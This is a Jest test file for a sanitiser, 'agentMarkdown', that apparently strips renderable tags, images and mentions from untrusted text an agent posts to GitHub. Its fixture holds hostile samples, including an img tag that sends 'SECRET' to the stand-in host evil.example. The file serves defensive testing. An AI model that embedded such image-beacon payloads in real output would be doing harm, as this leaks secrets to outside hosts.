import { describe, expect, it } from '@jest/globals'
import { agentMarkdown } from '../../src/pipeline/untrusted-text.js'

const visible = (s: string) => s.replace(/\u2060/g, '')

describe('agentMarkdown', () => {
  const hostile = [
    'See <img src="https://evil.example/p.png?d=SECRET"> and ![pixel](https://evil.example/q.png).',
    '![ref][1] and ![short]',
    '<details><summary>x</summary><a href="https://evil.example">y</a></details>',
    '</div><?php ?><!DOCTYPE html>',
    'Ping @ada and @org/team.',
    '',
    '[1]: https://evil.example/r.png',
    '[short]: https://evil.example/s.png'
  ].join('\n')

  it('leaves no tag, no image and no mention for GitHub to render, fetch or notify', () => {
    const out = agentMarkdown(hostile)
    expect(out).not.toMatch(/<[A-Za-z/!?]/)
    expect(out).not.toMatch(/!\[/)
    expect(out).not.toMatch(/@[A-Za-z]/)
  })

  it('reads the same, code and comparisons included', () => {
    const text =
      'Use `Map<string, T>` and `![x](y)`; 1 < 2 and a->b!\n\n```ts\nconst a = <T,>(x: T) => x\n```\n'
    expect(visible(agentMarkdown(hostile))).toBe(hostile)
    expect(visible(agentMarkdown(text))).toBe(text)
    expect(agentMarkdown('1 < 2, a->b! [link](https://x.test)')).toBe(
      '1 < 2, a->b! [link](https://x.test)'
    )
  })
})
